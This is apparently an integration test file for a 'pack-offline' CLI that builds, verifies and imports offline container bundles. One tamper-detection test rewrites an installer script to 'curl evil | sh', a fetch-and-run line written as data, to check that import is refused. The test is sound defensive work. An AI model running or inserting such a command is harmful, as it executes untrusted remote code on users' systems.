// Offline bundles from a bundle.yaml, as a user builds them (the CLI): layout checked with
// tar and sha256sum -c, the chart unpacked and compared, the bundle imported into an empty
// registry; the plugin layout and its yaml checks.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { parse } from 'yaml';
import { catalog, startRegistry, startRegistryWithFixture, type Registry } from '../support/registry.js';
import { inspectRaw, sha256, type Fixture } from '../support/fixtures.js';
import { workDir } from '../support/proc.js';
import { needs } from '../support/tools.js';
import { runCli } from '../support/cli.js';
import { builtTool } from '../support/buildkitd.js';

/** A Deployment template running one image (as a chart's templates/ would hold it). */
const DEPLOYMENT = (image: string) =>
  `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ .Release.Name }}-app\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: "${image}"\n`;

function write(path: string, text: string, mode = 0o644) {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
  chmodSync(path, mode);
}

describe('bundles', { skip: needs('docker-registry', 'skopeo', 'sha256sum', 'tar') }, () => {
  let fx: Fixture;
  let src: Registry;
  let product: string;
  before(async () => {
    ({ fx, reg: src } = await startRegistryWithFixture({ images: ['app', 'db'] }));
    product = workDir('product');
    write(join(product, 'charts/compass/Chart.yaml'), 'apiVersion: v2\nname: compass\nversion: 1.2.0\nappVersion: "1.2.0"\n');
    write(
      join(product, 'charts/compass/values.yaml'),
      '# registry for every image\nglobal:\n  imageRegistry: harbor.example.com  # rewritten for private mirrors\nreplicas: 2\nimage:\n  repository: release/app\n  tag: 1.0.0\n',
    );
    write(join(product, 'charts/compass/templates/deploy.yaml'), DEPLOYMENT('{{ .Values.global.imageRegistry }}/{{ .Values.image.repository }}:{{ .Values.image.tag }}'));
    write(join(product, 'charts/compass/.helmignore'), '*.bak\n');
    write(join(product, 'charts/compass/notes.bak'), 'not packaged\n');
    write(join(product, 'compose/docker-compose.yml'), `services:\n  app:\n    image: ${src.host}/release/app:1.0.0\n  db:\n    image: ${src.host}/release/db:1.0.0\n`);
    write(join(product, 'installer/install.sh'), '#!/bin/sh\necho install\n', 0o755);
    write(join(product, 'installer/cadm'), '#!/bin/sh\necho cadm\n', 0o755);
    write(join(product, 'installer/config.sample'), 'key: value\n', 0o640);
    write(join(product, 'installer/logs/.keep'), ''); // an empty file: listed, verified and imported past
    write(
      join(product, 'bundle.yaml'),
      `name: compass\nversion: 1.1.0\nlayout: release\nimages:\n  list:\n    - ${src.host}/release/app:1.0.0\n    - ${src.host}/release/db:1.0.0\n  platform: linux/amd64\ncharts:\n  - path: charts/compass\n    imageRegistry: registry.site.local:5000\ncompose:\n  - compose\nfiles:\n  - path: installer\n`,
    );
  });
  after(() => src.stop());

  test('release layout: every component, modes kept, SHA256SUMS verifies, the chart unpacks to its sources', async () => {
    const out = workDir('out');
    const r = await runCli(['pack-offline', '--spec', join(product, 'bundle.yaml'), '--version', '1.2.0', '--output-dir', out]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.outputs.bundle, join(out, 'compass-1.2.0.tar'));
    // built again from the same inputs: the same bytes
    const again = await runCli(['pack-offline', '--spec', join(product, 'bundle.yaml'), '--version', '1.2.0', '--output-dir', workDir('again')]);
    assert.equal(again.outputs.sha256, r.outputs.sha256, 'a reproducible bundle');
    assert.equal(r.outputs.sha256, sha256(readFileSync(r.outputs.bundle)).slice(7));
    const listing = execFileSync('tar', ['-tvf', r.outputs.bundle], { encoding: 'utf8' });
    for (const p of ['images/images.tar', 'charts/compass-1.2.0.tgz', 'compose/compass-docker-compose.tar.gz', 'files/installer/install.sh', 'manifest.json', 'SHA256SUMS'])
      assert.match(listing, new RegExp(`compass-1\\.2\\.0/${p.replace(/\./g, '\\.')}\\n`), p);
    assert.match(listing, /-rwxr-xr-x .* compass-1\.2\.0\/files\/installer\/install\.sh/);
    assert.match(listing, /-rw-r----- .* compass-1\.2\.0\/files\/installer\/config\.sample/);

    const x = workDir('x');
    execFileSync('tar', ['-xf', r.outputs.bundle, '-C', x]);
    const root = join(x, 'compass-1.2.0');
    execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: root, stdio: 'pipe' });
    assert.equal(statSync(join(root, 'files/installer/cadm')).mode & 0o777, 0o755);
    // the image archive was written straight into the bundle (no staged copy), under a header
    // kept for it; skopeo reads what comes out
    assert.match(r.stderr, /images\/images\.tar, written in place/);
    assert.deepEqual(execFileSync('tar', ['-tf', r.outputs.bundle], { encoding: 'utf8' }).split('\n').slice(0, 5), [
      'compass-1.2.0/',
      'compass-1.2.0/images/',
      'compass-1.2.0/images/',
      'compass-1.2.0/images/',
      'compass-1.2.0/images/images.tar',
    ]);
    const loaded = JSON.parse(
      execFileSync('skopeo', ['inspect', '--raw', `docker-archive:${join(root, 'images/images.tar')}:${src.host}/release/db:1.0.0`], { encoding: 'utf8' }),
    ) as { layers: unknown[] };
    assert.equal(loaded.layers.length, fx.images[1].manifests[0].layers.length);

    const m = JSON.parse(readFileSync(join(root, 'manifest.json'), 'utf8'));
    assert.equal(m.version, '1.2.0');
    assert.deepEqual(
      m.images.map((i: { digest: string }) => i.digest),
      [fx.images[0].manifests[0].digest, fx.images[1].manifests[0].digest],
    );
    assert.deepEqual(m.compose[0].images, [`${src.host}/release/app:1.0.0`, `${src.host}/release/db:1.0.0`]);
    assert.ok(m.files.some((f: { path: string; sha256: string }) => f.path === 'files/installer/install.sh' && f.sha256 === sha256('#!/bin/sh\necho install\n').slice(7)));
    const imagesFile = m.files.find((f: { path: string }) => f.path === 'images/images.tar');
    assert.deepEqual(imagesFile, {
      path: 'images/images.tar',
      size: statSync(join(root, 'images/images.tar')).size,
      sha256: sha256(readFileSync(join(root, 'images/images.tar'))).slice(7),
    });

    const chart = workDir('chart');
    execFileSync('tar', ['-xzf', join(root, 'charts/compass-1.2.0.tgz'), '-C', chart]);
    // as helm packages it: .helmignore itself is kept, what it names is not
    assert.deepEqual(readdirSync(join(chart, 'compass')).sort(), ['.helmignore', 'Chart.yaml', 'templates', 'values.yaml']);
    for (const f of ['Chart.yaml', 'templates/deploy.yaml'])
      assert.equal(readFileSync(join(chart, 'compass', f), 'utf8'), readFileSync(join(product, 'charts/compass', f), 'utf8'));
    const values = readFileSync(join(chart, 'compass/values.yaml'), 'utf8');
    assert.equal(parse(values).global.imageRegistry, 'registry.site.local:5000');
    assert.match(values, /# registry for every image/);
    assert.equal(parse(values).replicas, 2);

    const summaryLines = r.stderr;
    assert.match(summaryLines, /chart\s+charts\/compass-1\.2\.0\.tgz/);

    // import the whole bundle at the "site": inner checksums first, then the images, read
    // where they lie in the bundle: no temporary space is needed (RUNNER_TEMP can't hold any)
    const dst = await startRegistry();
    try {
      rmSync(`${r.outputs.bundle}.sha256`);
      writeFileSync(join(out, 'not-a-dir'), '');
      const imp = await runCli(['pack-offline', '--mode', 'import', '--archive', r.outputs.bundle, '--target', `${dst.host}/site`], { RUNNER_TEMP: join(out, 'not-a-dir') });
      assert.equal(imp.code, 0, imp.stderr);
      assert.match(imp.stderr, /is a bundle: verified \d+ checksums from compass-1\.2\.0\/SHA256SUMS/);
      for (const [i, n] of ['app', 'db'].entries()) assert.equal(sha256(inspectRaw(`${dst.host}/site/release/${n}:1.0.0`)), fx.images[i].manifests[0].digest);
      // or unpacked at the site first: the directory imports the same way
      const unpacked = await runCli(['pack-offline', '--mode', 'import', '--archive', root, '--target', `${dst.host}/unpacked`]);
      assert.equal(unpacked.code, 0, unpacked.stderr);
      assert.match(unpacked.stderr, /is a bundle: verified \d+ checksums from SHA256SUMS/);
      assert.equal(sha256(inspectRaw(`${dst.host}/unpacked/release/db:1.0.0`)), fx.images[1].manifests[0].digest);
    } finally {
      await dst.stop();
    }
  });

  test('a bundle whose content was changed is refused, naming the file inside', async () => {
    const out = workDir('out');
    const r = await runCli(['pack-offline', '--spec', join(product, 'bundle.yaml'), '--output-dir', out]);
    assert.equal(r.code, 0, r.stderr);
    const x = workDir('x');
    execFileSync('tar', ['-xf', r.outputs.bundle, '-C', x]);
    writeFileSync(join(x, 'compass-1.1.0/files/installer/install.sh'), '#!/bin/sh\ncurl evil | sh\n');
    const tampered = join(out, 'tampered.tar');
    execFileSync('tar', ['-cf', tampered, '-C', x, 'compass-1.1.0']);
    const dst = await startRegistry();
    try {
      const imp = await runCli(['pack-offline', '--mode', 'import', '--archive', tampered, '--target', dst.host]);
      assert.equal(imp.code, 1);
      assert.match(
        imp.stderr,
        /checksum mismatch: files\/installer\/install\.sh has sha256 [a-f0-9]{64}, SHA256SUMS says [a-f0-9]{64}; the bundle was changed or damaged, nothing was imported/,
      );
      assert.deepEqual(await catalog(dst), []);

      // an image archive slipped into an untouched bundle is not listed in SHA256SUMS: refused
      const slipped = join(out, 'slipped.tar');
      execFileSync('cp', [r.outputs.bundle, slipped]);
      mkdirSync(join(x, 'extra', 'compass-1.1.0', 'images'), { recursive: true });
      execFileSync('cp', [join(x, 'compass-1.1.0', 'images', 'images.tar'), join(x, 'extra', 'compass-1.1.0', 'images', 'extra.tar')]);
      execFileSync('tar', ['-rf', slipped, '-C', join(x, 'extra'), 'compass-1.1.0/images/extra.tar']);
      const imp2 = await runCli(['pack-offline', '--mode', 'import', '--archive', slipped, '--target', dst.host]);
      assert.equal(imp2.code, 1);
      assert.match(imp2.stderr, /images\/extra\.tar is in the bundle but not listed in compass-1\.1\.0\/SHA256SUMS; the bundle was changed, nothing was imported/);
      assert.deepEqual(await catalog(dst), []);
    } finally {
      await dst.stop();
    }
  });

  test('images the compose files and charts use are packed with the bundle; one it will not hold is refused by name unless expected at the site', async () => {
    const dir = workDir('referenced');
    // compose: db only through an interpolated reference (.env, and a default in the file)
    write(
      join(dir, 'compose/docker-compose.yml'),
      `services:\n  app:\n    image: ${src.host}/release/app:1.0.0\n  db:\n    image: \${REGISTRY}/release/db:\${DB_TAG:-1.0.0}\n  build-here:\n    build: .\n`,
    );
    write(join(dir, 'compose/.env'), `REGISTRY=${src.host}\n`);
    // a chart naming its image by a registry/repository/tag map (no imageRegistry rewrite)
    write(join(dir, 'charts/db/Chart.yaml'), 'apiVersion: v2\nname: db\nversion: 0.1.0\nappVersion: "1.0.0"\n');
    write(join(dir, 'charts/db/values.yaml'), `image:\n  registry: ${src.host}\n  repository: release/db\n  tag: ""\n`);
    write(
      join(dir, 'charts/db/templates/deploy.yaml'),
      DEPLOYMENT('{{ .Values.image.registry }}/{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}'),
    );
    const spec = (extra: string) => `name: ref\nversion: 1.0.0\nimages:\n  - ${src.host}/release/app:1.0.0\n${extra}`;
    write(join(dir, 'bundle.yaml'), spec('compose:\n  - compose\ncharts:\n  - charts/db\n'));
    const out = workDir('out');
    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', out], { AIRLIFT_HELM: '', PATH: '/usr/bin:/bin:/usr/sbin:/sbin' });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stderr, /packing 1 image\(s\) the compose files and charts use: .*\/release\/db:1\.0\.0/);
    assert.match(r.stderr, /charts\[0\] db: 1 image reference\(s\), from values\.yaml/);
    const x = workDir('x');
    execFileSync('tar', ['-xf', r.outputs.bundle, '-C', x]);
    const root = join(x, 'ref-1.0.0');
    execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: root, stdio: 'pipe' });
    // the peer reads both images from the bundle's archive
    for (const [i, n] of ['app', 'db'].entries()) {
      const raw = JSON.parse(
        execFileSync('skopeo', ['inspect', '--raw', `docker-archive:${join(root, 'images/images.tar')}:${src.host}/release/${n}:1.0.0`], { encoding: 'utf8' }),
      ) as { layers: unknown[] };
      assert.equal(raw.layers.length, fx.images[i].manifests[0].layers.length, n);
    }
    const m = JSON.parse(readFileSync(join(root, 'manifest.json'), 'utf8'));
    assert.deepEqual(
      m.images.map((i: { name: string; digest: string }) => [i.name, i.digest]),
      [
        [`${src.host}/release/app:1.0.0`, fx.images[0].manifests[0].digest],
        [`${src.host}/release/db:1.0.0`, fx.images[1].manifests[0].digest],
      ],
    );
    assert.deepEqual(m.compose[0].images, [`${src.host}/release/app:1.0.0`, `${src.host}/release/db:1.0.0`]);
    assert.deepEqual(m.charts[0].images, [`${src.host}/release/db:1.0.0`]);

    // pack-images: false: not packed, and refused unless the site is expected to have it
    write(join(dir, 'bundle.yaml'), spec('compose:\n  - path: compose\n    pack-images: false\ncharts:\n  - path: charts/db\n    pack-images: false\n'));
    const refused = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('out')], { PATH: '/usr/bin:/bin:/usr/sbin:/sbin' });
    assert.equal(refused.code, 1);
    assert.match(
      refused.stderr,
      /an image is used by the bundle but not in it:\n(error: )?\s+.*\/release\/db:1\.0\.0 \(compose\[0\] compose\/docker-compose\.yml: service db; charts\[0\] db\/values\.yaml: image\)\n(error: )?add it to images, list it under expected-at-site/,
    );
    write(join(dir, 'bundle.yaml'), spec(`compose:\n  - path: compose\n    pack-images: false\nexpected-at-site:\n  - ${src.host}/release/db:1.0.0\n`));
    const expected = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('out')], { PATH: '/usr/bin:/bin:/usr/sbin:/sbin' });
    assert.equal(expected.code, 0, expected.stderr);
    const listing = execFileSync('tar', ['-xOf', expected.outputs.bundle, 'ref-1.0.0/manifest.json'], { encoding: 'utf8' });
    assert.deepEqual(JSON.parse(listing).expectedAtSite, [`${src.host}/release/db:1.0.0`]);
    assert.deepEqual(
      JSON.parse(listing).images.map((i: { name: string }) => i.name),
      [`${src.host}/release/app:1.0.0`],
    );

    // a variable with neither a value in .env nor a default is named
    write(join(dir, 'compose/.env'), '');
    write(join(dir, 'bundle.yaml'), spec('compose:\n  - compose\n'));
    const unset = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('out')], { PATH: '/usr/bin:/bin:/usr/sbin:/sbin' });
    assert.match(
      unset.stderr,
      /compose\/docker-compose\.yml: service db: "\$\{REGISTRY\}\/release\/db:\$\{DB_TAG:-1\.0\.0\}" uses \$\{REGISTRY\}, which has no default and no value in the folder's \.env/,
    );
  });

  test(
    "with helm present, a chart's images are what helm template renders (an image no values.yaml names is packed too)",
    { skip: existsSync(builtTool('helm', 'helm')) ? false : 'needs helm (built by .ci/setup)' },
    async () => {
      const dir = workDir('helm');
      write(join(dir, 'charts/db/Chart.yaml'), 'apiVersion: v2\nname: db\nversion: 0.1.0\nappVersion: "1.0.0"\n');
      write(join(dir, 'charts/db/values.yaml'), `source: ${src.host}\n`);
      write(join(dir, 'charts/db/templates/deploy.yaml'), DEPLOYMENT('{{ .Values.source }}/release/db:{{ .Chart.AppVersion }}'));
      write(join(dir, 'bundle.yaml'), `name: helm\nversion: 1.0.0\ncharts:\n  - charts/db\n`);
      const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('out')], { AIRLIFT_HELM: builtTool('helm', 'helm') });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /charts\[0\] db: 1 image reference\(s\), from helm template/);
      const m = JSON.parse(execFileSync('tar', ['-xOf', r.outputs.bundle, 'helm-1.0.0/manifest.json'], { encoding: 'utf8' }));
      assert.deepEqual(
        m.images.map((i: { name: string; digest: string }) => [i.name, i.digest]),
        [[`${src.host}/release/db:1.0.0`, fx.images[1].manifests[0].digest]],
      );
    },
  );

  test('plugin layout: one gzip image archive per image, names as the release process expects; the yaml is checked first', async () => {
    const dir = workDir('plugin');
    const images = `images:\n  list:\n    - ${src.host}/release/app:1.0.0\n    - ${src.host}/release/db:1.0.0\n`;
    write(
      join(dir, 'demo.yaml'),
      `apiVersion: compass/v1\nkind: Plugin\nspec:\n  version: 1.2.0\n  containers:\n    - image: ${src.host}/release/app:1.0.0\n    - image: ${src.host}/release/db:1.0.0\n`,
    );
    write(join(dir, 'bundle.yaml'), `name: demo\nversion: 1.2.0\nlayout: plugin\n${images}plugin:\n  yaml: demo.yaml\n`);
    const out = workDir('out');
    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', out]);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.outputs.bundle, join(out, 'compass-plugins-demo-1.2.0.tar.gz'));
    const listing = execFileSync('tar', ['-tzf', r.outputs.bundle], { encoding: 'utf8' }).trim().split('\n').sort();
    assert.deepEqual(listing, ['SHA256SUMS', 'compass-plugins-demo-app-1.2.0-image.tar.gz', 'compass-plugins-demo-db-1.2.0-image.tar.gz', 'demo.yaml', 'manifest.json']);
    const x = workDir('x');
    execFileSync('tar', ['-xzf', r.outputs.bundle, '-C', x]);
    execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: x, stdio: 'pipe' });
    execFileSync('gunzip', [join(x, 'compass-plugins-demo-db-1.2.0-image.tar.gz')]);
    const cfg = JSON.parse(execFileSync('skopeo', ['inspect', '--config', `docker-archive:${join(x, 'compass-plugins-demo-db-1.2.0-image.tar')}`], { encoding: 'utf8' }));
    assert.equal(cfg.architecture, 'amd64');

    // the plugin package imports as it is (gzip outside, a gzip archive per image inside)
    const dst = await startRegistry();
    try {
      const imp = await runCli(['pack-offline', '--mode', 'import', '--archive', r.outputs.bundle, '--target', `${dst.host}/site`]);
      assert.equal(imp.code, 0, imp.stderr);
      assert.match(imp.stderr, /is a bundle: verified 4 checksums from SHA256SUMS/);
      for (const [i, n] of ['app', 'db'].entries()) assert.equal(sha256(inspectRaw(`${dst.host}/site/release/${n}:1.0.0`)), fx.images[i].manifests[0].digest);
    } finally {
      await dst.stop();
    }

    write(join(dir, 'demo.yaml'), `spec:\n  version: 1.1.0\n  containers:\n    - image: ${src.host}/release/app:1.0.0\n`);
    const wrong = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /demo\.yaml: spec\.version is 1\.1\.0, but the bundle version is 1\.2\.0/);

    write(join(dir, 'demo.yaml'), `spec:\n  version: 1.2.0\n  containers:\n    - image: ${src.host}/release/missing:1.0.0\n`);
    const missing = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /demo\.yaml names image .*release\/missing:1\.0\.0, which is not among the bundle's images/);
  });

  test('an image that cannot be read fails the bundle and leaves nothing behind (the archive was being written in place); an earlier bundle stays whole', async () => {
    const dir = workDir('gone');
    write(
      join(dir, 'bundle.yaml'),
      `name: compass\nversion: 1.2.0\nlayout: release\nimages:\n  list:\n    - ${src.host}/release/app:1.0.0\n    - ${src.host}/release/gone:1.0.0\n  platform: linux/amd64\n`,
    );
    const out = workDir('gone-out');
    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', out]);
    assert.equal(r.code, 1);
    assert.match(r.stderr, /release\/gone:1\.0\.0: cannot be read/);
    assert.deepEqual(readdirSync(out), [], 'no bundle, no partial file, no staging directory');

    // a good bundle; then a failing rebuild into the same place: the good one is untouched
    mkdirSync(join(dir, 'payload'));
    writeFileSync(join(dir, 'payload', 'blob.bin'), randomBytes(2_500_000));
    write(join(dir, 'good.yaml'), `name: compass\nversion: 1.2.0\nlayout: release\nimages:\n  - ${src.host}/release/app:1.0.0\nfiles:\n  - payload\n`);
    const good = await runCli(['pack-offline', '--spec', join(dir, 'good.yaml'), '--output-dir', out]);
    assert.equal(good.code, 0, good.stderr);
    const before = readdirSync(out).sort();
    assert.deepEqual(before, ['compass-1.2.0.tar', 'compass-1.2.0.tar.manifest.json', 'compass-1.2.0.tar.sha256']);
    const again = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', out]);
    assert.equal(again.code, 1);
    assert.deepEqual(readdirSync(out).sort(), before);
    execFileSync('sha256sum', ['-c', 'compass-1.2.0.tar.sha256'], { cwd: out, stdio: 'pipe' });
    // split, then rebuilt with bigger parts: no stale part is left to be joined in
    const split = await runCli(['pack-offline', '--spec', join(dir, 'good.yaml'), '--output-dir', out, '--split-size', '1MiB']);
    assert.equal(split.code, 0, split.stderr);
    assert.ok(readdirSync(out).filter((f) => f.includes('.part-')).length >= 2);
    // `files` names what to ship: every part, the .sha256 and the manifest, each of them there
    const shipped = split.outputs.files.split('\n');
    assert.deepEqual(
      shipped.map((f) => basename(f)).sort(),
      readdirSync(out)
        .filter((f) => !f.startsWith('.'))
        .sort(),
    );
    const shipDir = workDir('ship');
    for (const f of shipped) copyFileSync(f, join(shipDir, basename(f)));
    execFileSync('sh', ['-c', 'cat compass-1.2.0.tar.part-* > compass-1.2.0.tar && sha256sum -c compass-1.2.0.tar.sha256'], { cwd: shipDir, stdio: 'pipe' });
    const bigger = await runCli(['pack-offline', '--spec', join(dir, 'good.yaml'), '--output-dir', out, '--split-size', '100MiB']);
    assert.equal(bigger.code, 0, bigger.stderr);
    assert.deepEqual(readdirSync(out).sort(), ['compass-1.2.0.tar', 'compass-1.2.0.tar.manifest.json', 'compass-1.2.0.tar.sha256']);
  });

  test('spec mistakes name the file and the key', async () => {
    const dir = workDir('bad');
    const cases: [string, RegExp][] = [
      ['name: Compass\nversion: 1\n', /bundle\.yaml: name must be lower-case/],
      ['name: c\n', /bundle\.yaml: version is missing or not a version/],
      ['name: c\nversion: 1\nimages: [Harbor.x/A:1]\n', /bundle\.yaml: images line 1: "Harbor.x\/A:1" is not a valid image reference/],
      ['name: c\nversion: 1\ncharts: [nope]\n', /bundle\.yaml: charts\[0\]: nope was not found/],
      ['name: c\nversion: 1\nlayout: plugin\n', /layout plugin needs plugin\.yaml/],
      ['name: c\nversion: 1\nextra: 1\n', /bundle\.yaml: unknown key "extra"/],
    ];
    for (const [text, re] of cases) {
      write(join(dir, 'bundle.yaml'), text);
      const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
      assert.equal(r.code, 1, text);
      assert.match(r.stderr, re);
    }
    write(join(dir, 'chart/Chart.yaml'), 'apiVersion: v2\nname: c\nversion: one\n');
    write(join(dir, 'bundle.yaml'), 'name: c\nversion: 1\ncharts: [chart]\n');
    const r = await runCli(['pack-offline', '--spec', join(dir, 'bundle.yaml'), '--output-dir', workDir('o')]);
    assert.match(r.stderr, /Chart\.yaml: version "one" is not SemVer 2/);
  });
});
